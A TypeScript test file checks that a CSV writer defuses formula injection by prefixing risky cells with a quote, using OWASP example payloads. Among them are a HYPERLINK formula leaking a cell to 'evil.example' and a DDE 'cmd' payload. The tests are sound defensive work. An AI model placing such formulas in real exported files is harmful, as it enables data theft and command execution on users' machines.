// The CSV writer against the OWASP CSV-injection rule's cases and an independent parser
// (csv-parse, the one Traction reads uploads with): every text cell comes back as written,
// with a single quote in front exactly when it would start a formula.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv.js';

const read = (line: string): string[] => (parse(line, { relax_column_count: true }) as string[][])[0] ?? [];

describe('csvCell', () => {
  // The payloads of https://owasp.org/www-community/attacks/CSV_Injection, one per starting character.
  it.each([
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    ['+1+2', `"'+1+2"`],
    ['-1+2', `"'-1+2"`],
    ['@SUM(1+2)', `"'@SUM(1+2)"`],
    ['=HYPERLINK("http://evil.example?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example?leak=""&A1,""Click"")"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ])('neutralises %j', (input, written) => {
    expect(csvCell(input)).toBe(written);
    expect(read(csvCell(input))).toEqual([`'${input}`]);
  });

  it('writes ordinary text quoted and unchanged, and numbers as numbers', () => {
    expect(csvLine(['C3', 'a "quoted", word', 'x\ny', 'de;nl', null, undefined, -3, 2.5, 10n, true])).toBe('"C3","a ""quoted"", word","x\ny","de;nl",,,-3,2.5,10,true');
    // A text that is only a number is read as that number, never run: left as it is.
    for (const n of ['-3', '+1.5', '-0.25e-3', '-.5']) expect(csvCell(n)).toBe(`"${n}"`);
    for (const f of ['-3+1', '-3\t', '+1e', '--1', '-', '+']) expect(csvCell(f)).toBe(`"'${f}"`);
    expect(csvCell(new Date('2026-03-02T09:00:00Z'))).toBe('"2026-03-02T09:00:00.000Z"');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  it('round-trips any text through a CSV parser, prefixed exactly when it starts a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
        const back = read(csvLine(cells));
        expect(back).toHaveLength(cells.length);
        cells.forEach((c, i) => {
          const risky = /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c);
          expect(back[i]).toBe(risky ? `'${c}` : c);
          // What a spreadsheet sees never starts a formula, unless it is a plain number.
          if (/^[=+\-@\t\r]/.test(back[i]!)) expect(Number.isFinite(Number(back[i]))).toBe(true);
        });
      }),
      { numRuns: 300 },
    );
  });
});
